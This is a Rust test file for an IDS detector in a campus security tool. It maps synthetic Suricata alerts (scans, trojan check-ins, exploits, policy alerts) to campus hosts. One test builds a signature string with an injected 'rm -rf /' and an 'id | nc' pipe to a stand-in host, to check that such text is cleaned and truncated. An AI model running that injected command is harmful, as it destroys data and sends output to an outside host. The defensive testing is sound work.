//! IDS signature mapping, end to end from real EVE lines through the real EVE parser into the
//! `ids` detector: direction, defaults, site rules, filters and hostile signature text.
use cordon::config::IdsConfig;
use cordon::detect::{DetectContext, Detector, IdsDetector};
use cordon::inventory::Campus;
use cordon::model::{Evidence, EvidenceKind, Proto, Subject};
use cordon::parse::{Format, ParseContext, parser_for};
use jiff::Timestamp;
use jiff::tz::TimeZone;
use std::net::IpAddr;

/// Campus 10.0.0.0/8 and 2001:db8::/32; 10.20.0.25 (our vulnerability scanner) allow-listed.
fn run(ids_toml: &str, lines: &[String]) -> Vec<Evidence> {
    let cfg: IdsConfig = toml::from_str(ids_toml).expect("ids config");
    let mut det = IdsDetector::new(&cfg);
    let campus = Campus::new(&[
        "10.0.0.0/8".parse().unwrap(),
        "2001:db8::/32".parse().unwrap(),
    ]);
    let allow = Campus::new(&["10.20.0.25/32".parse().unwrap()]);
    let ctx = DetectContext::new(&campus, &allow, "suricata-edge");
    let pctx = ParseContext::new(
        TimeZone::UTC,
        "2026-11-23T15:00:00Z".parse::<Timestamp>().unwrap(),
    );
    let mut parser = parser_for(Format::SuricataEve);
    let mut out = Vec::new();
    for line in lines {
        let obs = parser
            .parse(line, &pctx)
            .obs()
            .unwrap_or_else(|| panic!("EVE line did not parse: {line}"));
        det.observe(&obs, &ctx, &mut out);
    }
    assert_eq!(det.stats().emitted, out.len() as u64);
    assert_eq!(det.name(), "ids");
    out
}

/// A Suricata 7 style alert line (flow id, in_iface, metadata-free alert object).
#[allow(clippy::too_many_arguments)]
fn alert(
    src: &str,
    sport: u16,
    dst: &str,
    dport: u16,
    sid: u64,
    signature: &str,
    category: &str,
    severity: u8,
) -> String {
    let sig = serde_json::to_string(signature).unwrap();
    format!(
        r#"{{"timestamp":"2026-11-23T10:15:02.114527-0500","flow_id":1296371519434876,"in_iface":"eth1","event_type":"alert","src_ip":"{src}","src_port":{sport},"dest_ip":"{dst}","dest_port":{dport},"proto":"TCP","pkt_src":"wire/pcap","alert":{{"action":"allowed","gid":1,"signature_id":{sid},"rev":3,"signature":{sig},"category":"{category}","severity":{severity}}},"app_proto":"failed","direction":"to_server","flow":{{"pkts_toserver":1,"pkts_toclient":0,"bytes_toserver":74,"bytes_toclient":0,"start":"2026-11-23T10:15:02.114527-0500","src_ip":"{src}","dest_ip":"{dst}","src_port":{sport},"dest_port":{dport}}}}}"#
    )
}

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

const NMAP: (u64, &str, &str) = (
    2024364,
    "ET SCAN Possible Nmap User-Agent Observed",
    "Web Application Attack",
);

#[test]
fn outbound_scan_from_campus_is_category_1_about_the_scanner() {
    let (sid, sig, cat) = NMAP;
    let line = alert("10.30.4.17", 51544, "203.0.113.80", 80, sid, sig, cat, 1);
    let out = run("", std::slice::from_ref(&line));
    assert_eq!(out.len(), 1, "{out:?}");
    let ev = &out[0];
    assert_eq!(ev.kind, EvidenceKind::OutboundScan);
    assert_eq!(ev.kind.category().number(), 1);
    assert_eq!(ev.subject, Subject::Host(ip("10.30.4.17")));
    assert_eq!(ev.peers, vec![ip("203.0.113.80")]);
    assert_eq!(ev.ports, vec![80]);
    assert_eq!(ev.proto, Proto::Tcp);
    assert_eq!(ev.count, 1);
    let t: Timestamp = "2026-11-23T15:15:02.114527Z".parse().unwrap();
    assert_eq!((ev.first_seen, ev.last_seen), (t, t));
    assert_eq!(ev.signature.as_deref(), Some(sig));
    assert_eq!(ev.signature_id, Some(sid));
    assert_eq!(ev.raw, vec![line]);
    assert_eq!(ev.detector, "ids");
    assert_eq!(ev.sensor, "suricata-edge");
}

#[test]
fn inbound_scan_and_inbound_exploit_attempt_say_nothing_about_campus() {
    let (sid, sig, cat) = NMAP;
    let lines = [
        alert("203.0.113.80", 51544, "10.30.4.17", 80, sid, sig, cat, 1),
        alert(
            "198.51.100.23",
            40112,
            "10.20.1.10",
            443,
            2031502,
            "ET EXPLOIT Apache Struts RCE Attempt",
            "Attempted Administrator Privilege Gain",
            1,
        ),
    ];
    assert!(run("", &lines).is_empty());
}

#[test]
fn trojan_checkin_blames_the_campus_client_in_either_direction() {
    let lines = [
        // Request from the campus client to the C2 server.
        alert(
            "10.10.8.44",
            49822,
            "185.220.101.4",
            443,
            2034567,
            "ET MALWARE Win32/Emotet CnC Checkin",
            "A Network Trojan was detected",
            1,
        ),
        // The server's answer: the campus side is now the destination.
        alert(
            "185.220.101.4",
            443,
            "10.10.8.44",
            49822,
            2034568,
            "ET MALWARE Emotet CnC Response",
            "trojan-activity",
            1,
        ),
    ];
    let out = run("", &lines);
    assert_eq!(out.len(), 2, "{out:?}");
    for ev in &out {
        assert_eq!(ev.kind, EvidenceKind::TrojanC2);
        assert_eq!(ev.kind.category().number(), 2);
        assert_eq!(ev.subject, Subject::Host(ip("10.10.8.44")));
        assert_eq!(ev.peers, vec![ip("185.220.101.4")]);
    }
}

#[test]
fn policy_vulnerable_is_category_3_other_policy_alerts_are_nothing() {
    let lines = [
        alert(
            "10.30.9.2",
            50110,
            "93.184.216.34",
            80,
            2014297,
            "ET POLICY Vulnerable Java Version 1.8.x Detected",
            "Potentially Bad Traffic",
            2,
        ),
        alert(
            "10.30.9.2",
            50111,
            "93.184.216.34",
            80,
            2013028,
            "ET POLICY curl User-Agent Outbound",
            "Attempted Information Leak",
            2,
        ),
        alert(
            "10.30.9.2",
            50112,
            "93.184.216.34",
            443,
            2027758,
            "ET INFO Observed DNS Query to .cloud TLD",
            "Potentially Bad Traffic",
            2,
        ),
    ];
    let out = run("", &lines);
    // ET POLICY/INFO alerts describe traffic, not a compromise: their classtype (here
    // attempted-recon, which alone would mean a scan) is not consulted.
    let kinds: Vec<_> = out.iter().map(|e| e.kind).collect();
    assert_eq!(kinds, vec![EvidenceKind::Vulnerable]);
    assert_eq!(out[0].subject, Subject::Host(ip("10.30.9.2")));
    assert_eq!(out[0].kind.category().number(), 3);
    assert_eq!(out[0].signature_id, Some(2014297));
    // A site rule can still give such an alert a meaning, and can silence the vulnerable one.
    let site = run(
        r#"
        [[rules]]
        sid = 2013028
        kind = "scan"
        [[rules]]
        signature_contains = "vulnerable java"
        kind = "ignore"
        "#,
        &lines,
    );
    let kinds: Vec<_> = site.iter().map(|e| e.kind).collect();
    assert_eq!(kinds, vec![EvidenceKind::OutboundScan]);
    assert_eq!(site[0].signature_id, Some(2013028));
}

#[test]
fn site_rule_by_sid_beats_the_default_and_can_pick_the_side() {
    let line = alert(
        "198.51.100.60",
        4444,
        "10.10.3.3",
        51000,
        9000001,
        "LOCAL reverse shell banner from campus client",
        "Attempted Information Leak",
        1,
    );
    // Default: attempted-recon with an outside source → nothing about campus.
    assert!(run("", std::slice::from_ref(&line)).is_empty());
    let toml = r#"
        [[rules]]
        sid = 9000001
        kind = "trojan_c2"
        subject = "dst"
    "#;
    let out = run(toml, std::slice::from_ref(&line));
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].kind, EvidenceKind::TrojanC2);
    assert_eq!(out[0].subject, Subject::Host(ip("10.10.3.3")));
    assert_eq!(out[0].peers, vec![ip("198.51.100.60")]);
    // A side override that names an outside address yields nothing.
    let toml = r#"
        [[rules]]
        sid = 9000001
        kind = "trojan_c2"
        subject = "src"
    "#;
    assert!(run(toml, std::slice::from_ref(&line)).is_empty());
}

#[test]
fn rule_matchers_are_all_required_and_case_insensitive() {
    let line = alert(
        "10.10.5.5",
        33000,
        "203.0.113.9",
        6667,
        2500001,
        "ET MALWARE IRC Bot Join",
        "A Network Trojan was detected",
        1,
    );
    let toml = r#"
        [[rules]]
        signature_contains = "irc bot"
        classtype = "a network TROJAN was detected"
        kind = "dos"
    "#;
    let out = run(toml, std::slice::from_ref(&line));
    assert_eq!(out[0].kind, EvidenceKind::OutboundDos);
    // One matcher missing → the rule does not apply; defaults decide (TrojanC2).
    let toml = r#"
        [[rules]]
        signature_contains = "irc bot"
        classtype = "web-application-attack"
        kind = "dos"
    "#;
    let out = run(toml, std::slice::from_ref(&line));
    assert_eq!(out[0].kind, EvidenceKind::TrojanC2);
    // Defaults off and no rule → nothing.
    assert!(run("default_rules = false", std::slice::from_ref(&line)).is_empty());
}

#[test]
fn severity_filter_drops_low_priority_alerts() {
    let (sid, sig, cat) = NMAP;
    let lines = [
        alert("10.30.4.17", 51544, "203.0.113.80", 80, sid, sig, cat, 3),
        alert("10.30.4.18", 51544, "203.0.113.80", 80, sid, sig, cat, 2),
    ];
    assert_eq!(run("", &lines).len(), 2);
    let out = run("max_severity = 2", &lines);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].subject, Subject::Host(ip("10.30.4.18")));
    assert!(run("max_severity = 1", &lines).is_empty());
}

#[test]
fn allow_listed_scanner_produces_nothing() {
    let lines = [alert(
        "10.20.0.25",
        60000,
        "203.0.113.80",
        443,
        2010937,
        "ET SCAN Suspicious inbound to mySQL port 3306",
        "Potentially Bad Traffic",
        2,
    )];
    assert!(run("", &lines).is_empty());
}

#[test]
fn internal_attack_blames_the_campus_attacker() {
    let line = alert(
        "10.30.7.7",
        41000,
        "10.20.1.10",
        445,
        2024218,
        "ET EXPLOIT Possible ETERNALBLUE MS17-010 Echo Request",
        "Attempted Administrator Privilege Gain",
        1,
    );
    let out = run("", &[line]);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].kind, EvidenceKind::OutboundExploit);
    assert_eq!(out[0].subject, Subject::Host(ip("10.30.7.7")));
    assert_eq!(out[0].peers, vec![ip("10.20.1.10")]);
}

#[test]
fn successful_inbound_compromise_blames_the_campus_victim() {
    let line = alert(
        "198.51.100.9",
        80,
        "10.10.2.2",
        52000,
        2019284,
        "GPL ATTACK_RESPONSE id check returned root",
        "Successful Administrator Privilege Gain",
        1,
    );
    let out = run("", &[line]);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].kind, EvidenceKind::InboundExploitSuccess);
    assert_eq!(out[0].subject, Subject::Host(ip("10.10.2.2")));
}

#[test]
fn ipv6_alerts_map_like_ipv4() {
    let lines = [
        alert(
            "2001:db8:10::44",
            50000,
            "2001:4860:4860::8888",
            22,
            2001219,
            "ET SCAN Potential SSH Scan",
            "Attempted Information Leak",
            2,
        ),
        alert(
            "2001:4860:4860::8888",
            50000,
            "2001:db8:10::45",
            22,
            2001219,
            "ET SCAN Potential SSH Scan",
            "Attempted Information Leak",
            2,
        ),
    ];
    let out = run("", &lines);
    assert_eq!(out.len(), 1, "only the outbound one: {out:?}");
    assert_eq!(out[0].subject, Subject::Host(ip("2001:db8:10::44")));
    assert_eq!(out[0].kind, EvidenceKind::OutboundScan);
    assert_eq!(out[0].ports, vec![22]);
}

#[test]
fn hostile_signature_text_is_only_truncated_evidence_text() {
    // Someone who can write to the log (or craft a rule message) puts shell syntax, newlines
    // and 10 KB of padding into the signature. It still maps only by the ET family word, and
    // is kept cleaned and cut.
    let mut sig =
        String::from("ET TROJAN $(rm -rf /); `id` | nc 198.51.100.1 4444 && echo\n\r\u{1b}[2J");
    sig.push_str(&"A".repeat(10 * 1024));
    let line = alert(
        "10.30.1.1",
        40000,
        "198.51.100.1",
        4444,
        2999999,
        &sig,
        "A Network Trojan was detected",
        1,
    );
    assert!(line.len() > 10 * 1024);
    let out = run("", std::slice::from_ref(&line));
    assert_eq!(out.len(), 1);
    let ev = &out[0];
    assert_eq!(ev.kind, EvidenceKind::TrojanC2);
    assert_eq!(ev.subject, Subject::Host(ip("10.30.1.1")));
    let kept = ev.signature.as_deref().unwrap();
    assert!(kept.len() <= 256 + '…'.len_utf8(), "{}", kept.len());
    assert!(!kept.chars().any(char::is_control), "{kept:?}");
    assert!(kept.starts_with("ET TROJAN $(rm -rf /)"));
    assert_eq!(ev.raw.len(), 1);
    assert!(ev.raw[0].len() <= Evidence::MAX_RAW_LEN + " …[truncated]".len());
    assert!(ev.raw[0].ends_with("…[truncated]"));
    assert!(line.starts_with(ev.raw[0].trim_end_matches(" …[truncated]")));
}

/// The bundled demo: `captures/eve-demo.json` read with `config/cordon.toml` yields exactly
/// the five findings the demo is meant to show (captures/README.md, "eve-demo.json").
#[test]
fn demo_capture_produces_the_documented_findings() {
    use cordon::inventory::{Correlator, Inventory};
    use cordon::model::{Category, Severity};
    let root = env!("CARGO_MANIFEST_DIR");
    let cfg = cordon::config::load(std::path::Path::new(&format!("{root}/config/cordon.toml")))
        .expect("demo config");
    let text = std::fs::read_to_string(format!("{root}/captures/eve-demo.json")).unwrap();
    let inv = Inventory::new(&cfg.inventory, &cfg.campus);
    let mut det = IdsDetector::new(&cfg.detect.ids);
    let ctx = DetectContext::new(inv.campus(), inv.allow(), "suricata-demo");
    let pctx = ParseContext::new(TimeZone::UTC, "2026-11-23T15:00:00Z".parse().unwrap());
    let mut parser = parser_for(Format::SuricataEve);
    let mut evidence = Vec::new();
    let mut lines = 0;
    for line in text.lines() {
        lines += 1;
        assert!(
            !matches!(parser.parse(line, &pctx), cordon::parse::Parsed::Bad(_)),
            "{line}"
        );
        if let Some(obs) = parser.parse(line, &pctx).obs() {
            det.observe(&obs, &ctx, &mut evidence);
        }
    }
    assert!((18..=25).contains(&lines), "{lines} lines");
    let mut corr = Correlator::new(1000);
    let findings: Vec<_> = evidence
        .into_iter()
        .map(|ev| corr.finding(ev, &inv, &cfg.severity))
        .collect();
    let summary: Vec<_> = findings
        .iter()
        .map(|f| {
            (
                f.evidence.subject.ip().unwrap().to_string(),
                f.evidence.kind,
                f.category,
                f.owner.as_ref().map(|o| o.email.clone()),
                f.host.protected,
            )
        })
        .collect();
    let some = |s: &str| Some(s.to_string());
    use EvidenceKind::*;
    let want = vec![
        (
            "10.10.4.23",
            OutboundScan,
            Category::One,
            some("it@chem.campus.example.edu"),
            false,
        ),
        (
            "10.10.4.23",
            OutboundScan,
            Category::One,
            some("it@chem.campus.example.edu"),
            false,
        ),
        (
            "10.10.4.23",
            OutboundScan,
            Category::One,
            some("it@chem.campus.example.edu"),
            false,
        ),
        ("10.99.14.201", OutboundExploit, Category::One, None, false),
        ("10.99.14.201", OutboundExploit, Category::One, None, false),
        (
            "10.0.0.1",
            OutboundScan,
            Category::One,
            some("netops@campus.example.edu"),
            true,
        ),
        (
            "10.30.12.77",
            TrojanC2,
            Category::Two,
            some("resnet@campus.example.edu"),
            false,
        ),
        (
            "10.30.12.77",
            TrojanC2,
            Category::Two,
            some("resnet@campus.example.edu"),
            false,
        ),
        (
            "10.10.7.31",
            Vulnerable,
            Category::Three,
            some("it@chem.campus.example.edu"),
            false,
        ),
    ];
    let want: Vec<_> = want
        .into_iter()
        .map(|(a, k, c, o, p)| (a.to_string(), k, c, o, p))
        .collect();
    assert_eq!(summary, want);
    assert_eq!(
        findings[5].host.hostname.as_deref(),
        Some("edge-rtr-1.campus.example.edu")
    );
    assert_eq!(findings[3].host.network.as_deref(), Some("Guest wireless"));
    assert_eq!(findings[6].severity, Severity::Low);
    assert_eq!(findings[0].severity, Severity::Medium);
}
